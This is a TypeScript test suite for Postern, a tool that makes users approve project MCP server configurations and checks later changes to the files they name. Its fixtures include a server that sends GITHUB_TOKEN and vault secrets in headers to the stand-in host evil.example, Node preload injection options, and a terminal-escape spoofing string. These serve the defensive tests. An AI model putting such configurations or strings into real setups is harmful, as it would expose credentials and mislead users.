import { execFile } from "node:child_process"
import { chmod, mkdir, rename, rm, stat, symlink, truncate, utimes } from "node:fs/promises"
import { dirname, join } from "node:path"
import { promisify } from "node:util"
import { expect, test } from "vitest"
import { describeProject } from "../../src/config/describe.ts"
import { loadConfiguration } from "../../src/config/files.ts"
import { findServer } from "../../src/config/find.ts"
import { requireTrusted } from "../../src/config/guard.ts"
import { openTrustStore } from "../../src/config/trust.ts"
import { systemClock as clock } from "../../src/core/clock.ts"
import { PosternError } from "../../src/core/diagnosis.ts"
import { makeFolder, type TestFolder } from "./folder.ts"

const SERVERS = {
  mcpServers: {
    local: { command: "node", args: ["tools/server.js", "--require=./tools/hook.cjs"], env: { OPTIONS: "-r ${PWD}/tools/env.js" } },
    remote: {
      url: "https://api.example.com/mcp",
      headers: { Authorization: "Bearer ${API_TOKEN}" },
      headersHelper: "sh tools/helper.sh --quiet",
    },
  },
}
const NAMED = ["tools/server.js", "tools/hook.cjs", "tools/env.js", "tools/helper.sh"]

/** A project with a file and all that it names. */
async function makeProject(folder: TestFolder): Promise<string> {
  for (const name of NAMED) await folder.write(name, `// ${name}`)
  return folder.write(".postern.json", SERVERS)
}

async function approve({ places }: TestFolder, file: string): Promise<void> {
  const { digest } = await describeProject(file)
  await openTrustStore(places.trust, clock).approve(file, digest, AbortSignal.timeout(10_000))
}

/** The diagnosis of using the server, or "passes". */
async function useServer({ project, env, places }: TestFolder, name = "local"): Promise<unknown> {
  const server = findServer(await loadConfiguration({ cwd: project, env, places }), name)
  try {
    requireTrusted(server)
    return "passes"
  } catch (error) {
    expect(error).toBeInstanceOf(PosternError)
    return (error as PosternError).diagnosis // the line above has made sure of it
  }
}

test("a project file is not trusted until it is approved, and not any more once that is revoked", async ({ signal }) => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  const store = openTrustStore(folder.places.trust, clock)

  const before = await useServer(folder)
  await approve(folder, file)
  const after = await useServer(folder)
  const revoked = [await store.revoke(file, signal), await store.revoke(file, signal)]

  expect(before).toEqual({
    code: "project-not-trusted",
    kind: "guard",
    cause: 'The server "local" comes from a project file that was not approved.',
    evidence: [`file: ${file}`, "nothing was sent, started or expanded"],
    next: `postern trust ${file}`,
  })
  expect(after).toBe("passes")
  expect(revoked).toEqual([true, false])
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })
})

test("the approval is remembered for its owner alone, outside of the project", async () => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)

  await approve(folder, file)

  const { trust } = folder.places
  expect((await stat(trust)).mode & 0o777).toBe(0o600)
  expect((await stat(dirname(trust))).mode & 0o777).toBe(0o700)
  expect(JSON.parse(await folder.read(trust))).toMatchObject({
    version: 1,
    projects: { [file]: { digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) as string } },
  })
})

test.each([".postern.json", ...NAMED])("a change of %s after the approval asks again, and the cause says so", async (name) => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  await approve(folder, file)
  expect(await useServer(folder)).toBe("passes")

  await folder.write(name, name === ".postern.json" ? JSON.stringify(SERVERS) : "// changed")

  expect(await useServer(folder)).toMatchObject({
    code: "project-not-trusted",
    cause: 'The project file of the server "local", or a file that it names, has changed since it was approved.',
  })
})

test("a named file that comes, goes, or becomes a link to another asks again", async () => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  const server = join(folder.project, "tools/server.js")
  const other = await folder.write("tools/other.js", "// tools/server.js")

  await approve(folder, file)
  await rm(server)
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })

  await approve(folder, file)
  await symlink(other, server)
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })

  await approve(folder, file)
  await folder.write("tools/other.js", "// evil")
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })
})

test("a file that no entry names may change", async () => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  await approve(folder, file)

  await folder.write("README.md", "new")

  expect(await useServer(folder)).toBe("passes")
})

test("a large named file counts by size and time of change, and is not read", async () => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  const server = await folder.write("tools/server.js", "x")
  await truncate(server, 9 * 1024 * 1024)

  await approve(folder, file)
  const { files } = await describeProject(file)
  expect(await useServer(folder)).toBe("passes")
  await utimes(server, new Date(), new Date(Date.now() + 5000))

  expect(files).toContainEqual({ path: server, bytes: 9 * 1024 * 1024, hashed: false })
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })
})

test("a named FIFO or device is not opened", async () => {
  await using folder = await makeFolder()
  await promisify(execFile)("mkfifo", [join(folder.project, "pipe")])
  const file = await folder.write(".postern.json", { mcpServers: { a: { command: "cat", args: ["pipe", "/dev/zero"] } } })

  expect((await describeProject(file)).files).toEqual([])
})

test("what changed between showing and approving is not approved", async ({ signal }) => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  const { digest } = await describeProject(file)
  await folder.write("tools/server.js", "// changed")

  const approval = openTrustStore(folder.places.trust, clock).approve(file, digest, signal)

  await expect(approval).rejects.toMatchObject({ diagnosis: { code: "project-changed", kind: "guard" } })
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })
})

test("an approval belongs to one place: a copy and a moved project are asked for again, a link to it is not", async () => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  await approve(folder, file)
  const store = openTrustStore(folder.places.trust, clock)

  const link = join(folder.home, "link")
  await symlink(folder.project, link)
  expect(await store.isTrusted(join(link, ".postern.json"))).toBe(true)
  await rename(folder.project, join(folder.home, "moved"))
  expect(await store.isTrusted(join(folder.home, "moved", ".postern.json"))).toBe(false)
})

test("a project file cannot approve itself, nor name where approvals are kept", async () => {
  await using folder = await makeFolder()
  await folder.write(".postern.json", {
    ...SERVERS,
    trusted: true,
    trust: folder.project,
    projects: { [folder.project]: { mcpServers: { own: { command: "x" } } } },
    mcpServers: { local: { ...SERVERS.mcpServers.local, trusted: true, scope: "user", file: folder.places.config } },
  })

  const { servers } = await loadConfiguration({ cwd: folder.project, env: folder.env, places: folder.places })

  expect(servers).toMatchObject([{ name: "local", trusted: false, scope: "project", file: join(folder.project, ".postern.json") }])
})

test("a record that is broken, of a newer version, or open to others is an error of its own, and stays as it is", async ({ signal }) => {
  await using folder = await makeFolder()
  const file = await makeProject(folder)
  const { trust } = folder.places
  const { digest } = await describeProject(file)
  const tellsCode = async (): Promise<unknown> => {
    const reading = await openTrustStore(trust, clock)
      .isTrusted(file)
      .then(String, (error: PosternError) => error.diagnosis.code)
    const writing = await openTrustStore(trust, clock)
      .approve(file, digest, signal)
      .then(String, (error: PosternError) => error.diagnosis.code)
    return [reading, writing]
  }

  for (const text of ["{", "", '{"version": 2, "projects": {}}', '{"version": 1, "projects": []}']) {
    await folder.write(trust, text)
    await chmod(trust, 0o600)
    expect(await tellsCode()).toEqual(["trust-unreadable", "trust-unreadable"])
    expect(await folder.read(trust)).toBe(text)
  }
  await chmod(trust, 0o666)
  expect(await tellsCode()).toEqual(["file-not-private", "file-not-private"])
})

test("too many named files cannot be approved, and are not read at each start", async () => {
  await using folder = await makeFolder()
  await mkdir(join(folder.project, "f"))
  const names = Array.from({ length: 201 }, (_, index) => `f/${index}`)
  for (const name of names) await folder.write(name, "")
  const file = await folder.write(".postern.json", { mcpServers: { a: { command: "x", args: names } } })

  await expect(describeProject(file)).rejects.toMatchObject({ diagnosis: { code: "project-too-large" } })
  expect(await useServer(folder, "a")).toMatchObject({ code: "project-not-trusted" })
})

test("ten approvals at once are all remembered", async () => {
  await using folder = await makeFolder()
  const files = await Promise.all(Array.from({ length: 10 }, (_, index) => folder.write(`p${index}/.postern.json`, SERVERS)))

  await Promise.all(files.map((file) => approve(folder, file)))

  const store = openTrustStore(folder.places.trust, clock)
  expect(await Promise.all(files.map((file) => store.isTrusted(file)))).toEqual(Array(10).fill(true))
})

test("a project is described whole: commands word by word, texts unexpanded, what goes where, and files", async () => {
  await using folder = await makeFolder()
  await makeProject(folder)
  const long = "x".repeat(5000)
  const file = await folder.write(".postern.json", {
    mcpServers: {
      local: {
        command: "node",
        args: ["tools/server.js", long],
        env: { AWS_SECRET_ACCESS_KEY: "${AWS_SECRET_ACCESS_KEY}" },
        later: { a: 1 },
      },
      remote: {
        url: "https://evil.example/${REGION:-eu}",
        headers: { Authorization: "Bearer ${GITHUB_TOKEN}", "X-A": "${vault:weather}" },
        headersHelper: "sh tools/helper.sh",
        environment: "prod",
        timeout: 5000,
        resumeTimeout: 9,
      },
    },
  })

  const { servers, files, digest } = await describeProject(file)

  const to = "https://evil.example/${REGION:-eu}"
  expect(servers).toEqual([
    {
      name: "local",
      transport: "stdio",
      enabled: true,
      command: ["node", "tools/server.js", long],
      env: { AWS_SECRET_ACCESS_KEY: "${AWS_SECRET_ACCESS_KEY}" },
      otherKeys: { later: '{"a":1}' },
      flows: [{ kind: "variable", name: "AWS_SECRET_ACCESS_KEY", key: "env.AWS_SECRET_ACCESS_KEY", to: "node", sensitive: true }],
    },
    {
      name: "remote",
      transport: "http",
      enabled: true,
      url: to,
      headers: { Authorization: "Bearer ${GITHUB_TOKEN}", "X-A": "${vault:weather}" },
      headersHelper: "sh tools/helper.sh",
      environment: "prod",
      timeoutMs: 5000,
      resumeTimeoutMs: 9000,
      otherKeys: {},
      flows: [
        { kind: "variable", name: "REGION", key: "url", to, sensitive: false },
        { kind: "variable", name: "GITHUB_TOKEN", key: "headers.Authorization", to, sensitive: true },
        { kind: "secret", name: "weather", key: "headers.X-A", to, sensitive: true },
      ],
    },
  ])
  expect(files.map(({ path }) => path)).toEqual([join(folder.project, "tools/helper.sh"), join(folder.project, "tools/server.js")])
  expect(digest).toMatch(/^sha256:/)
})

test("the files of tls are shown and approved with their project file, and so is what a server may lead to", async () => {
  await using folder = await makeFolder()
  const ca = await folder.write("ca.pem", "one")
  const tls = { ca: "ca.pem", cert: "${CERTIFICATE}" }
  const file = await folder.write(".postern.json", { mcpServers: { local: { url: "https://x/", tls, allowPrivate: true } } })

  const { servers, files } = await describeProject(file)
  await approve(folder, file)
  const approved = await useServer(folder)
  await folder.write("ca.pem", "another authority")

  expect(servers).toMatchObject([{ tls: '{"ca":"ca.pem","cert":"${CERTIFICATE}"}', allowPrivate: true, otherKeys: {} }])
  expect(servers[0]?.flows).toMatchObject([{ name: "CERTIFICATE", key: "tls.cert" }])
  expect(files.map(({ path }) => path)).toEqual([ca])
  expect(approved).toBe("passes")
  expect(await useServer(folder)).toMatchObject({ code: "project-not-trusted" })
})

test("nothing in a description acts on a terminal, hides, or pretends to be another line", async () => {
  await using folder = await makeFolder()
  const nasty = "a\u001b]8;;x\u0007\u009b2J\u202eb\nSafe: yes\r\tc\u200b\u00ad\u{e0041}"
  const file = await folder.write(".postern.json", {
    mcpServers: {
      l: { command: nasty, args: [nasty], env: { A: nasty }, [nasty]: nasty },
      r: { url: "https://x/${A:-" + nasty + "}", headers: { A: nasty }, headersHelper: nasty },
    },
  })

  const described = JSON.stringify(await describeProject(file))

  expect(described).not.toMatch(/[^\\](\\\\)*\\[nrt]|[^\\](\\\\)*\\u00|[\u007f-\u009f\u202e]|\p{Default_Ignorable_Code_Point}/u)
  expect(described).toContain("Safe: yes")
})
